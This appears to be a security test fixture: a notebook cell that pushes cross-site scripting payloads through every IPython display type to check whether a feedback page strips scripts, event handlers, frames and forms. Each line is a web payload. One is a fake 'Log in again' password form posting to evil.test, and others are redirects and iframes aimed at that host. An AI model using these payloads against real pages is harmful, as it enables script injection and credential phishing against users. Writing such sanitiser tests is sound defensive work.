"""Shows scripts, forms, frames and event handlers in every kind of output that a page draws.

Succeeds when one of them is in the feedback page.
"""
# succeeds: active

# %%
from IPython.display import HTML, IFrame, Javascript, Markdown, SVG, display

display(HTML("<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)></svg>"))
display(HTML("<form action='https://evil.test'><input name=password><button>Log in again</button></form>"))
display(HTML("<a href='javascript:alert(1)'>a</a><details open ontoggle=alert(1)><summary>b</summary></details>"))
display(HTML("<meta http-equiv=refresh content='0;url=https://evil.test'><base href='https://evil.test'>"))
display(IFrame("https://evil.test", 100, 100), Javascript("alert(1)"))
display(Markdown("[a](javascript:alert(1)) <img src=x onerror=alert(1)> ![](https://evil.test/pixel.png)"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>"))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "x"}, "text/plain": "x"}, raw=True)
display({"image/png": 'x" onerror="alert(1)'}, raw=True, metadata={"image/png": {"width": "1 onload=alert(1)"}})
display({"text/html": "<b>x</b>"}, raw=True, metadata={"text/html": {"isolated": True}})
print("</pre><script>alert(1)</script>")
